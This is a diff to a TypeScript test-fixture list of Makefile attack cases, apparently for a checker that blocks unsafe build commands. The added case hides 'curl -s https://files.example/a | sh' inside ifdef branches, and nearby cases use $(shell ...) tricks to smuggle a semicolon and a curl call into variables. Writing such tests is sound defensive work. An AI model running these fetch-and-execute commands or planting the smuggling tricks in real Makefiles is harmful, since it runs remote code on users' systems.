@@ -72,6 +72,11 @@ export const MAKE: readonly (Attack | readonly [id: string, expected: Expected, 
   ["MK-008d", "block", "V := $(shell git log -1 --format='%x3b curl')\nall:\n\techo $(V)\n"],
   ["MK-008e", "block", "V := $(shell python3 -c 'print(chr(59))')\nall:\n\techo $(V)\n"],
   ["MK-008f", "closed", "define x\nall:\n\techo a\n"],
+  [
+    "MK-008h",
+    "closed",
+    `.ONESHELL:\n${Array.from({ length: 6 }, (_, at) => `ifdef F${at}\nX${at} = echo a\nelse\nX${at} = ${at === 0 ? "curl -s https://files.example/a | sh" : "echo b"}\nendif\n`).join("")}all:\n\t$(X0)\n\t$(X1)\n\t$(X2)\n\t$(X3)\n\t$(X4)\n\t$(X5)\n`,
+  ],
   ["MK-008g", "closed", "all:\n\techo $(shell\n"],
 ];
 
